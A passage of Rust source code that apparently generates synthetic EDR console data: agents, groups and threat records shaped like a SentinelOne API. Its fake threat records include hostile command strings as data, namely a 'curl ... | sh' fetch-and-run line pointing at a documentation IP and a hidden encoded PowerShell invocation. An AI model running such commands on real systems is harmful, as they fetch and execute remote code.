                    (".x.sh", "SH", "Script"),
                ]);
                let dir = *self
                    .rng
                    .pick(&["/tmp", "/var/tmp/.cache", "/dev/shm", "/home/{u}"]);
                let puser = *self.rng.pick(&["root", "www-data", user]);
                let args = self.rng.chance(50).then(|| {
                    format!(
                        "/bin/sh -c curl -fsSL http://198.51.100.{}/i.sh | sh",
                        self.rng.below(250)
                    )
                });
                let orig = *self.rng.pick(&["bash", "sshd", "python3", "cron"]);
                (
                    f,
                    e,
                    t,
                    format!("{}/{f}", dir.replace("{u}", user)),
                    orig,
                    puser.to_owned(),
                    args,
                )
            }
            _ => {
                let (f, e, t) = *self.rng.pick(&[
                    ("invoice_2024_11.exe", "EXE", "Executable"),
                    ("Payroll_Q3.docm", "DOCM", "Document"),
                    ("update.ps1", "PS1", "Script"),
                    ("svchost32.exe", "EXE", "Executable"),
                    ("AnyDeskPortable.exe", "EXE", "Executable"),
                    ("mimikatz.exe", "EXE", "Executable"),
                    ("chrome_update.js", "JS", "Script"),
                    ("rundll_helper.dll", "DLL", "Executable"),
                ]);
                let dir = *self.rng.pick(&[
                    "\\Device\\HarddiskVolume3\\Users\\{u}\\Downloads",
                    "\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Temp",
                    "\\Device\\HarddiskVolume2\\Windows\\Temp",
                    "\\Device\\HarddiskVolume3\\ProgramData\\Updater",
                ]);
                let args = (e == "PS1" || self.rng.chance(30))
                    .then(|| format!("powershell.exe -NoP -W Hidden -Enc {}", self.rng.hex(24)));
                let orig = *self.rng.pick(&[
                    "explorer.exe",
                    "OUTLOOK.EXE",
                    "WINWORD.EXE",
                    "powershell.exe",
                    "chrome.exe",
                    "cmd.exe",
                ]);
                (
                    f,
                    e,
                    t,
                    format!("{}\\{f}", dir.replace("{u}", user)),
                    orig,
                    format!("ACME\\{user}"),
                    args,
                )
            }
        };
        let classification = *self.rng.weighted(&[
            ("Malware", 30),
            ("Trojan", 20),
            ("PUA", 15),
            ("Infostealer", 8),
            ("Hacktool", 7),
            ("Miner", 7),
            ("Ransomware", 5),
            ("Exploit", 5),
        ]);
        let classification_source = if dynamic {
            "Behavioral"
        } else {
            *self.rng.pick(&["Cloud", "Static", "Engine"])
        };
        let engine_count = 1 + self.rng.below(2) as usize;
        let first_engine = self.rng.below(ENGINES.len() as u64) as usize;
        let engines: Vec<(&str, &str)> = (0..engine_count)
            .map(|k| ENGINES[(first_engine + k) % ENGINES.len()])
            .collect();
        let static_indicator = !dynamic && self.rng.chance(50);
        let indicators = if dynamic {
            self.indicators()
        } else {
            Vec::new()
        };
        let identified = created - self.rng.range(1_000, 900_000);
        let mitigations = self.mitigation_actions(mitigation, created);
        let sha256 = self.rng.chance(40).then(|| self.rng.hex(64));
        let md5 = self.rng.chance(30).then(|| self.rng.hex(32));
        let sha1 = self.rng.hex(40);
        let storyline = self.rng.hex(16).to_uppercase();
        let collection_id = self.next_id();
        let signed = self.rng.chance(15);
        let (initiated, initiated_desc) = *self.rng.weighted(&[
            (("agent_policy", "Agent Policy"), 85),
            (("full_disk_scan", "Full Disk Scan"), 8),
            (("on_demand_scan", "On-Demand Scan"), 4),
            (("console_api", "Console API"), 3),
        ]);
        let mut whitening = vec!["hash"];
        if self.rng.chance(50) {
            whitening.push("path");
        }
        if signed {
            whitening.push("certificate");
        }
        if self.rng.chance(30) {
            whitening.push("file_type");
        }
        let auto_resolved = incident == "resolved" && self.rng.chance(30);
        let failed_actions = self.rng.permille(15);
        let file_size = 1024 + self.rng.below(8_000_000);
        let fileless = dynamic && ext == "PS1" && self.rng.chance(30);
        let preemptive = mitigation == "mitigated" && self.rng.chance(20);
        let first_nic = agent.nics.first();

        let mut out = String::with_capacity(4096);
        let mut o = Obj::new(&mut out);
        o.obj("agentDetectionInfo", |d| {
            d.s("accountId", &agent.account_id)
                .s("accountName", &agent.account_name)
                .null("agentDetectionState")
                .s("agentDomain", &agent.domain)
                .opt_s(
                    "agentIpV4",
                    first_nic.and_then(|n| n.2.first()).map(String::as_str),
                )
                .opt_s(
                    "agentIpV6",
                    first_nic.and_then(|n| n.3.first()).map(String::as_str),
                )
                .null("agentLastLoggedInUpn")
                .null("agentLastLoggedInUserMail")
                .s("agentLastLoggedInUserName", &agent.last_user)
                .s("agentMitigationMode", &agent.mitigation_mode)
                .s("agentOsName", &agent.os_name)
                .s("agentOsRevision", &agent.os_revision)
                .s("agentRegisteredAt", &agent.registered)
                .s("agentUuid", &agent.uuid)
                .s("agentVersion", &agent.version)
                .raw("cloudProviders", "{}")
                .opt_s("externalIp", agent.external_ip.as_deref())
                .s("groupId", &agent.group_id)
                .s("groupName", &agent.group_name)
                .s("siteId", &agent.site_id)
                .s("siteName", &agent.site_name);
        });
        o.obj("agentRealtimeInfo", |r| {
            r.s("accountId", &agent.account_id)
                .s("accountName", &agent.account_name)
                .n("activeThreats", agent.active_threats)
                .s("agentComputerName", &agent.computer_name);
            match &agent.decommissioned_at {
                None => r.null("agentDecommissionedAt"),
                Some(Ok(b)) => r.b("agentDecommissionedAt", *b),
                Some(Err(ts)) => r.s("agentDecommissionedAt", ts),
            };
            r.s("agentDomain", &agent.domain)
                .s("agentId", &agent.id)
                .b("agentInfected", agent.infected)
                .b("agentIsActive", agent.active)
                .b("agentIsDecommissioned", agent.decommissioned)
                .s("agentMachineType", &agent.machine)
                .s("agentMitigationMode", &agent.mitigation_mode)
                .s("agentNetworkStatus", &agent.network_status)
                .s("agentOsName", &agent.os_name)
                .s("agentOsRevision", &agent.os_revision)
                .s("agentOsType", &agent.os_type)
                .s("agentUuid", &agent.uuid)
                .s("agentVersion", &agent.version)
                .s("groupId", &agent.group_id)
                .s("groupName", &agent.group_name)
                .arr("networkInterfaces", |a| {
                    for (nid, name, inet, inet6, physical) in &agent.nics {
                        a.obj(|n| {
                            n.s("id", nid)
                                .arr("inet", |x| {
                                    for i in inet {
                                        x.s(i);
                                    }
                                })
                                .arr("inet6", |x| {
                                    for i in inet6 {
                                        x.s(i);
                                    }
                                })
                                .s("name", name)
                                .s("physical", physical);
                        });
                    }
                })
                .s("operationalState", &agent.operational_state)
                .b("rebootRequired", false)
                .null("scanAbortedAt")
                .opt_s("scanFinishedAt", agent.scan_finished.as_deref())
                .opt_s("scanStartedAt", agent.scan_started.as_deref())
                .s("scanStatus", &agent.scan_status)
                .s("siteId", &agent.site_id)
                .s("siteName", &agent.site_name)
                .null("storageName")
                .null("storageType")
                .arr("userActionsNeeded", |a| {
                    for u in &agent.user_actions {
                        a.s(u);
                    }
                });
        });
        o.obj("containerInfo", |c| {
            c.null("id").null("image").null("labels").null("name");
        });
        o.s("id", &id);
        o.arr("indicators", |a| {
            if static_indicator {
                a.obj(|i| {
                    i.s("category", "General")
                        .s("description", "Detected by the Static Engine")
                        .raw("ids", "[43]")
                        .raw("tactics", "[]");
                });
            }
            for (category, description, ind_id, tactics) in &indicators {
                a.obj(|i| {
                    i.s("category", category)
                        .s("description", description)
                        .arr("ids", |x| {
                            x.n(*ind_id);
                        })
                        .arr("tactics", |x| {
                            for (name, techniques) in tactics {
                                x.obj(|t| {
                                    t.s("name", name)
                                        .s("source", "MITRE")
                                        .arr("techniques", |y| {
                                            for tech in techniques {
                                                y.obj(|z| {
                                                    z.s(
                                                        "link",
                                                        &format!(
                                                        "https://attack.mitre.org/techniques/{}/",
                                                        tech.replace('.', "/")
                                                    ),
                                                    )
                                                    .s("name", tech);
                                                });
                                            }
                                        });
                                });
                            }
                        });
                });
            }
        });
        o.obj("kubernetesInfo", |k| {
            for f in [
                "cluster",
                "controllerKind",
                "controllerLabels",
                "controllerName",
                "namespace",
                "namespaceLabels",
                "node",
                "pod",
                "podLabels",
            ] {
                k.null(f);
            }
        });
        o.arr("mitigationStatus", |a| {
            for m in &mitigations {
                a.obj(|x| {
                    x.s("action", m.action);
                    match m.counters {
                        true => x.raw(
                            "actionsCounters",
                            r#"{"failed":0,"notFound":0,"pendingReboot":0,"success":1,"total":1}"#,
                        ),
                        false => x.null("actionsCounters"),
                    };
                    x.b("agentSupportsReport", true)
                        .b("groupNotFound", false)
                        .ts("lastUpdate", m.ended + 100)
                        .opt_s(
                            "latestReport",
                            m.counters.then_some("/threats/mitigation-report"),
                        )
                        .ts("mitigationEndedAt", m.ended)
                        .ts("mitigationStartedAt", m.started)
                        .s("status", "success");
                });
            }
        });
        o.obj("threatInfo", |t| {
            t.s("analystVerdict", verdict)
                .s("analystVerdictDescription", describe(verdict))
                .b("automaticallyResolved", auto_resolved)
                .null("browserType")
                .s(
                    "certificateId",
                    if signed {
                        "SIGNER-CN=Some Vendor Ltd"
                    } else {
                        ""
                    },
                )
                .s("classification", classification)
                .s("classificationSource", classification_source)
                .s(
                    "cloudFilesHashVerdict",
                    if verdict == "false_positive" {
                        "provider_unknown"
                    } else {
                        "black"
                    },
                )
                .s("collectionId", &collection_id)
                .s("confidenceLevel", confidence)
                .ts("createdAt", created)
                .arr("detectionEngines", |a| {
                    for (k, title) in &engines {
                        a.obj(|e| {
                            e.s("key", k).s("title", title);
                        });
                    }
                })
                .s("detectionType", if dynamic { "dynamic" } else { "static" })
                .arr("engines", |a| {
                    for (_, title) in &engines {
                        a.s(title);
                    }
                })
                .b("externalTicketExists", false)
                .null("externalTicketId")
                .b("failedActions", failed_actions)
                .s("fileExtension", ext)
                .s("fileExtensionType", ext_type)
                .s("filePath", &path)
                .n("fileSize", file_size)
                .s(
                    "fileVerificationType",
                    if signed {
                        "SignedVerified"
                    } else {
                        "NotSigned"
                    },
                )
                .ts("identifiedAt", identified)
                .s("incidentStatus", incident)
                .s("incidentStatusDescription", describe(incident))
                .s("initiatedBy", initiated)
                .s("initiatedByDescription", initiated_desc)
                .null("initiatingUserId")
                .null("initiatingUsername")
                .b("isFileless", fileless)
                .b("isValidCertificate", signed)
                .opt_s("maliciousProcessArguments", args.as_deref())
                .opt_s("md5", md5.as_deref())
                .b("mitigatedPreemptively", preemptive)
                .s("mitigationStatus", mitigation)
                .s("mitigationStatusDescription", describe(mitigation))
                .s("originatorProcess", originator)
                .b("pendingActions", false)
                .s("processUser", &process_user)
                .s("publisherName", if signed { "Some Vendor Ltd" } else { "" })
                .b("reachedEventsLimit", false)
                .b("rebootRequired", false)
                .s("sha1", &sha1)
                .opt_s("sha256", sha256.as_deref())
                .s("storyline", &storyline)
                .s("threatId", &id)
                .s("threatName", file)
                .ts("updatedAt", updated);
        });
        o.str_arr("whiteningOptions", &whitening);
        o.end();
        ThreatRow {
            id,
            account_id: agent.account_id.clone(),
            site_id: agent.site_id.clone(),
            group_id: agent.group_id.clone(),
            agent_id: agent.id.clone(),
            analyst_verdict: verdict.to_owned(),
            incident_status: incident.to_owned(),
            confidence_level: confidence.to_owned(),
            mitigation_status: mitigation.to_owned(),
            created_us: created,
            updated_us: updated,
            json: Arc::from(out),
        }
    }

    #[allow(clippy::type_complexity)]
    fn indicators(
        &mut self,
    ) -> Vec<(
        &'static str,
        &'static str,
        u64,
        Vec<(&'static str, Vec<&'static str>)>,
    )> {
        let n = 1 + self.rng.below(4) as usize;
        (0..n)
            .map(|_| {
                let (category, description, ind_id) = *self.rng.pick(INDICATORS);
                let tactic_count = self.rng.below(3) as usize;
                let tactics = (0..tactic_count)
                    .map(|_| {
                        let (name, techniques) = *self.rng.pick(TACTICS);
                        let tech_count = 1 + self.rng.below(2) as usize;
                        let techs = (0..tech_count)
                            .map(|_| *self.rng.pick(techniques))
                            .collect();
                        (name, techs)
                    })
                    .collect();
                (category, description, ind_id, tactics)
            })
            .collect()
    }

    fn mitigation_actions(&mut self, mitigation: &str, created: Micros) -> Vec<MitigationAction> {
        let actions: &[&'static str] = match mitigation {
            "mitigated" => &["kill", "quarantine"],
            "marked_as_benign" => &["unquarantine"],
            _ if self.rng.chance(40) => &["kill"],
            _ => &[],
        };
        let mut at = created + self.rng.range(100_000, 60_000_000);
        actions
            .iter()
            .map(|action| {
                let started = at;
                let ended = started + self.rng.range(1, 500_000);
                at = ended + self.rng.range(1_000, 10_000_000);
                MitigationAction {
                    action,
                    started,
                    ended,
                    counters: self.rng.chance(50),
                }
            })
            .collect()
    }

    fn group(
        &mut self,
        site: usize,
        ordinal: usize,
        name: &str,
        created: Micros,
    ) -> (GroupInfo, Value) {
        let id = self.next_id();
        let is_default = ordinal == 0;
        let kind = if is_default {
            "static"
        } else {
            *self
                .rng
                .weighted(&[("static", 80), ("dynamic", 15), ("pinned", 5)])
        };
        let dynamic = kind == "dynamic";
        let filter_id = if dynamic {
            json!(self.next_id())
        } else {
            Value::Null
        };
        let who = self.rng.below(PEOPLE.len() as u64) as usize;
        let token_body = format!(
            "{{\"url\":\"https://acme.sentinelone.net\",\"site_key\":\"{}\"}}",
            self.rng.hex(16)
        );
        let value = json!({
            "createdAt": fmt_micros(created),
            "creator": PEOPLE[who],
            "creatorId": person_id(who),
            "filterId": filter_id,
            "filterName": if dynamic { json!(format!("{name} filter")) } else { Value::Null },
            "id": id,
            "inherits": is_default || self.rng.chance(70),
            "isDefault": is_default,
            "name": name,
            "rank": if dynamic { json!(1 + self.rng.below(10)) } else { Value::Null },
            "registrationToken": base64_std(token_body.as_bytes()),
            "siteId": self.sites[site].id,
            "totalAgents": 0,
            "type": kind,
            "updatedAt": fmt_micros(created + self.rng.range(500_000, 30 * DAY_US)),
        });
        (
            GroupInfo {
                id,
                name: name.to_owned(),
                site,
                ordinal,
            },
            value,
        )
    }
}

struct MitigationAction {
    action: &'static str,
    started: Micros,
    ended: Micros,
    counters: bool,
}

fn person_id(who: usize) -> String {
    (900_000_000_000_000_000u64 + who as u64 * 1_000_003).to_string()
}

fn write_tag(out: &mut String, t: &TagFacts) {
    let mut o = Obj::new(out);
    o.ts("assignedAt", t.at)
        .s("assignedBy", t.by)
        .s("assignedById", &t.by_id)
        .s("id", &t.id)
        .s("key", &t.key)
        .s("value", &t.value);
    o.end();
}

/// Writes an agent record. Legacy-shaped agents look like the 2021 console sample: no `tags`,
/// `missingPermissions`, `detectionState`, `firstFullModeTime`, `storageName`/`storageType`, and
/// `"True"`/`"False"` strings for `firewallEnabled`/`isUpToDate`.
fn agent_row(a: &AgentFacts, active_threats: u64) -> AgentRow {
    let mut out = String::with_capacity(2600);
    let string_bool = |b: bool| if b { "\"True\"" } else { "\"False\"" };
    let bool_text = |b: bool| if b { "true" } else { "false" };
    let mut o = Obj::new(&mut out);
    o.s("accountId", &a.site.account_id)
        .s("accountName", &a.site.account_name)
        .raw(
            "activeDirectory",
            r#"{"computerDistinguishedName":null,"computerMemberOf":[],"lastUserDistinguishedName":null,"lastUserMemberOf":[]}"#,
        )
        .n("activeThreats", active_threats)
        .s("agentVersion", a.version)
        .b("allowRemoteShell", a.remote_shell)
        .s("appsVulnerabilityStatus", a.apps_vulnerability)
        .raw("cloudProviders", "{}")
        .s("computerName", &a.computer_name)
        .s("consoleMigrationStatus", "N/A")
        .n("coreCount", a.core_count)
        .n("cpuCount", a.cpu_count)
        .s("cpuId", a.cpu)
        .ts("createdAt", a.created);
    if !a.legacy {
        o.null("detectionState");
    }
    o.s("domain", a.domain)
        .b("encryptedApplications", false)
        .opt_s("externalId", (!a.legacy).then_some(""))
        .s("externalIp", &a.external_ip)
        .raw(
            "firewallEnabled",
            if a.legacy {
                string_bool(a.firewall)
            } else {
                bool_text(a.firewall)
            },
        );
    if !a.legacy {
        o.null("firstFullModeTime");
    }
    o.s("groupId", &a.group_id)
        .s("groupIp", &format!("{}.x", a.site.egress_prefix))
        .s("groupName", &a.group_name)
        .s("id", &a.id)
        .b("inRemoteShellSession", false)
        .b("infected", active_threats > 0)
        .s("installerType", a.installer)
        .b("isActive", a.active)
        .b("isDecommissioned", a.decommissioned)
        .b("isPendingUninstall", false)
        .b("isUninstalled", a.uninstalled)
        .raw(
            "isUpToDate",
            if a.legacy {
                string_bool(a.up_to_date)
            } else {
                bool_text(a.up_to_date)
            },
        )
        .ts("lastActiveDate", a.last_active)
        .opt_s("lastIpToMgmt", a.last_ip_to_mgmt.as_deref())
        .s("lastLoggedInUserName", &a.last_user)
        .s("licenseKey", "")
        .b("locationEnabled", a.machine == "laptop")
        .s(
            "locationType",
            if a.machine == "laptop" {
                "fallback"
            } else {
                "not_applicable"
            },
        )
        .null("locations")
        .s("machineType", a.machine);
    if !a.legacy {
        o.str_arr(
            "missingPermissions",
            if a.missing_fda {
                &["user_action_needed_fda"]
            } else {
                &[]
            },
        );
    }
    o.s("mitigationMode", a.mitigation_mode)
        .s("mitigationModeSuspicious", a.mitigation_mode_suspicious)
        .s("modelName", a.model)
        .arr("networkInterfaces", |arr| {
            for n in &a.nics {
                arr.obj(|x| {
                    let (gw, gw_mac) = match &n.gateway {
                        Some((g, m)) => (Some(g.as_str()), Some(m.as_str())),
                        None => (None, None),
                    };
                    x.opt_s("gatewayIp", gw)
                        .opt_s("gatewayMacAddress", gw_mac)
                        .s("id", &n.id)
                        .str_arr("inet", &[&n.inet])
                        .str_arr("inet6", &[&n.inet6])
                        .s("name", &n.name)
                        .s("physical", &n.physical);
                });
            }
        })
        .b("networkQuarantineEnabled", a.quarantined)
        .s("networkStatus", a.network_status)
        .s("operationalState", "na")
        .null("operationalStateExpiration")
        .s("osArch", a.arch)
        .s("osName", a.os_name)
        .s("osRevision", &a.os_revision)
        .s("osStartTime", &fmt_seconds(a.os_start))
        .s("osType", a.os_type)
        .null("osUsername")
        .s("rangerStatus", a.ranger_status)
        .opt_s("rangerVersion", (!a.legacy).then_some("23.4.1.3"))
        .ts("registeredAt", a.registered)
        .s("remoteProfilingState", "disabled")
        .null("remoteProfilingStateExpiration")
        .null("scanAbortedAt")
        .opt_ts("scanFinishedAt", a.scan.map(|(_, e)| e))
        .opt_ts("scanStartedAt", a.scan.map(|(s, _)| s))
        .s(
            "scanStatus",
            if a.scan.is_some() { "finished" } else { "none" },
        )
        .s("siteId", &a.site.id)
        .s("siteName", &a.site.name);
    if !a.legacy {
        o.null("storageName").null("storageType").obj("tags", |t| {
            t.arr("sentinelone", |arr| {
                for tag in &a.tags {
                    arr.obj(|x| {
                        x.ts("assignedAt", tag.at)
                            .s("assignedBy", tag.by)
                            .s("assignedById", &tag.by_id)
                            .s("id", &tag.id)
                            .s("key", &tag.key)
                            .s("value", &tag.value);
                    });
                }
            });
        });
    }
    o.b("threatRebootRequired", false)
        .n("totalMemory", a.memory)
        .ts("updatedAt", a.updated)
        .str_arr(
            "userActionsNeeded",
            if a.reboot_needed {
                &["reboot_needed"]
            } else {
                &[]
            },
        )
        .s("uuid", &a.uuid);
    o.end();
    AgentRow {
        id: a.id.clone(),
        account_id: a.site.account_id.clone(),
        site_id: a.site.id.clone(),
        group_id: a.group_id.clone(),
        computer_name: a.computer_name.clone(),
        decommissioned: a.decommissioned,
        created_us: a.created,
        updated_us: a.updated,
        json: Arc::from(out),
    }
}

fn base64_std(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Builds the whole tenant for `spec`.
pub(crate) fn generate(spec: &TenantSpec) -> Generated {
    let end = datetime_to_micros(spec.history_end);
    let start = end - 3 * 365 * DAY_US;
    let mut g = Generator {
        rng: SeededRng::new(spec.seed),
        last_id: 650_000_000_000_000_000 + (spec.seed % 1000) * 100_000_000_000_000,
        name_counters: HashMap::new(),
        sites: Vec::new(),
        groups: Vec::new(),
        spec: spec.clone(),
    };
    let sites = spec.sites.max(1);
    let accounts: Vec<(String, String)> = (0..sites.div_ceil(4))
        .map(|i| {
            let name = ACCOUNT_NAMES
                .get(i)
                .map_or_else(|| format!("Account {}", i + 1), |s| (*s).to_owned());
            (g.next_id(), name)
        })
        .collect();
    for i in 0..sites {
        let (account_id, account_name) = accounts[i / 4].clone();
        let name = SITE_NAMES
            .get(i)
            .map_or_else(|| format!("Site {}", i + 1), |s| (*s).to_owned());
        let id = g.next_id();
        g.sites.push(Site {
            id,
            name,
            account_id,
            account_name,
            ordinal: i,
            egress_prefix: EGRESS_PREFIXES[i % EGRESS_PREFIXES.len()].to_owned(),
        });
    }
    let mut groups = Vec::new();
    for site in 0..sites {
        for ordinal in 0..spec.groups_per_site.max(1) {
            let name = if ordinal == 0 {
                "Default Group".to_owned()
            } else {
                GROUP_NAMES
                    .get(ordinal - 1)
                    .map_or_else(|| format!("Group {ordinal}"), |s| (*s).to_owned())
            };
            let created = start + g.rng.range(0, 30 * DAY_US);
            let (info, value) = g.group(site, ordinal, &name, created);
            g.groups.push(info);
            groups.push(value);
        }
    }

    let mut facts: Vec<AgentFacts> = Vec::with_capacity(spec.agents);
    for i in 0..spec.agents {
        let created = g.rng.range(start + 30 * DAY_US, end - DAY_US);
        let updated = g.rng.range(created, end);
        let reuse = if i > 0 && g.rng.permille(spec.duplicate_name_permille) {
            // A re-imaged machine: same host name, new agent id.
            Some(facts[g.rng.below(i as u64) as usize].computer_name.clone())
        } else {
            None
        };
        facts.push(g.agent_facts(created, updated, reuse));
    }

    // Agents that existed when their threats fired but have since been removed from the console.
    let orphan_threats = if spec.agents == 0 {
        0
    } else {
        spec.threats * spec.orphan_threat_permille as usize / 1000
    };
    let ghosts: Vec<ThreatAgent> = (0..orphan_threats.div_ceil(5).min(spec.agents))
        .map(|_| {
            let created = g.rng.range(start + 30 * DAY_US, end - 30 * DAY_US);
            ThreatAgent::from_facts(&g.agent_facts(created, created + DAY_US, None))
        })
        .collect();

    // Plan every threat first, so each agent's activeThreats is known before anything is written.
    let mut plans: Vec<(Option<usize>, ThreatPlan)> = Vec::with_capacity(spec.threats);
    if !facts.is_empty() {
        for i in 0..spec.threats {
            let idx = if i < orphan_threats && !ghosts.is_empty() {
                None
            } else {
                // Skewed: a few machines collect many threats, as in real fleets.
                let r = g.rng.below(1 << 20) as f64 / f64::from(1 << 20);
                Some(((r * r) * facts.len() as f64) as usize % facts.len())
            };
            let agent_created = idx.map_or(start, |i| facts[i].created);
            let ghost_created = idx.is_none().then(|| ghosts[i % ghosts.len()].created);
            plans.push((
                idx,
                g.plan_threat(ghost_created.unwrap_or(agent_created), start, end - HOUR_US),
            ));
        }
    }
    let mut active = vec![0u64; facts.len()];
    for (idx, plan) in &plans {
        if let Some(i) = idx {
            if plan.incident != "resolved" {
                active[*i] += 1;
            }
        }
    }
    let mut views: Vec<ThreatAgent> = facts.iter().map(ThreatAgent::from_facts).collect();
    for (v, n) in views.iter_mut().zip(&active) {
        v.active_threats = *n;
        v.infected = *n > 0;
    }
    let threats: Vec<ThreatRow> = plans
        .iter()
        .enumerate()
        .map(|(i, (idx, plan))| {
            let agent = match idx {
                Some(a) => &views[*a],
                None => &ghosts[i % ghosts.len()],
            };
            g.threat_row(agent, *plan)
        })
        .collect();
    let agents: Vec<AgentRow> = facts
        .iter()
        .zip(&active)
        .map(|(f, n)| agent_row(f, *n))
        .collect();

    let mut per_group: HashMap<&str, u64> = HashMap::new();
    for a in &agents {
        *per_group.entry(a.group_id.as_str()).or_default() += 1;
    }
    for grp in &mut groups {
        let n = grp["id"]
            .as_str()
            .and_then(|id| per_group.get(id))
            .copied()
            .unwrap_or(0);
        grp["totalAgents"] = json!(n);
    }

    Generated {
        groups,
        agents,
        threats,
        generator: g,
    }
}
